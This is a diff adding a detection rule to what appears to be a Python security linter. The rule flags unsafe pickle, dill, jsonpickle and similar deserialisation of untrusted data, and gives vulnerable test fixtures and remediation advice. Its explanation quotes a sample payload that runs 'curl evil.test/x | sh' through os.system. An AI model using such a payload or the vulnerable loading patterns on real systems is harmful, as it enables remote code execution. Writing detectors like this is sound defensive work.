@@ -1,0 +1,75 @@
+"""TG114: pickle-family deserialisation of data that may come from outside the program."""
+
+from __future__ import annotations
+
+import ast
+
+from tabguard.engine.rule import Invalid, Rule
+from tabguard.rules.injection._strings import is_static, raised
+
+_PICKLE_MODULES = ("pickle", "cPickle", "_pickle", "dill", "cloudpickle", "marshal")
+_LOADERS = {
+    **{f"{m}.{f}": m for m in _PICKLE_MODULES for f in ("load", "loads", "Unpickler")},
+    "shelve.open": "shelve",
+    "jsonpickle.decode": "jsonpickle",
+    "jsonpickle.unpickler.decode": "jsonpickle",
+    "pandas.read_pickle": "pandas",
+    "joblib.load": "joblib",
+    "keras.models.load_model": "keras",
+}
+
+
+class UnsafeDeserialization(Rule):
+    id = "TG114"
+    name = "unsafe-deserialization"
+    severity = "medium"
+    confidence = "high"
+    cwe = (502,)
+    owasp = "A08:2025"
+    message = "`{callee}` deserialises {what}: loading a crafted payload runs code"
+    placeholders = {"callee": "pickle.loads", "what": "data from outside the program"}
+    aliases = ("B301", "B302", "B403", "S301", "S302", "S403")
+    what = (
+        "`{callee}` rebuilds objects from {what}. The {module} format can name any importable callable "
+        "to call while loading."
+    )
+    why = (
+        "A pickle whose `__reduce__` returns `(os.system, (\"curl evil.test/x | sh\",))` runs that command "
+        "the moment it is loaded, before any type check. Cookies, cache entries, uploaded model files, "
+        "message-queue payloads and files in shared buckets are all ways for such bytes to arrive."
+    )
+    how = (
+        "Exchange data as JSON (or another data-only format) and validate it; when pickle is unavoidable, "
+        "load only bytes you produced and authenticated (an HMAC checked with `hmac.compare_digest` "
+        "before loading)."
+    )
+    example = 'payload = json.loads(body)\nsettings = Settings.model_validate(payload)'
+    references = (
+        "https://cwe.mitre.org/data/definitions/502.html",
+        "https://docs.python.org/3/library/pickle.html",
+        "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
+    )
+    VALID = (
+        'import json\ndef f(body):\n    return json.loads(body)\n',
+        'import pickle\ndef f(obj):\n    return pickle.dumps(obj)\n',
+        'import pickle\nDEFAULTS = pickle.loads(b"\\x80\\x04N.")\n',
+    )
+    INVALID = (
+        Invalid('import pickle\nfrom flask import request\ndef f():\n    return pickle.loads(request.data)\n'),
+        Invalid('import pickle\ndef load_cache(path):\n    with open(path, "rb") as fh:\n        return pickle.load(fh)\n'),
+        Invalid('import jsonpickle\ndef f(s):\n    return jsonpickle.decode(s)\n'),
+        Invalid('import base64, dill\ndef f(request):\n    return dill.loads(base64.b64decode(request.COOKIES["state"]))\n'),
+    )
+
+    def visit_Call(self, node: ast.Call, ctx) -> None:
+        callee = ctx.call_name(node) or ""
+        module = _LOADERS.get(callee)
+        if module is None or not node.args:
+            return
+        data = node.args[0]
+        if is_static(data, ctx):
+            return
+        source = ctx.taint(data)
+        what = f"user input ({source.label})" if source else "data from outside the program"
+        ctx.report(self, node, details={"callee": callee, "what": what, "module": module}, source=source,
+                   severity=raised(self, source))
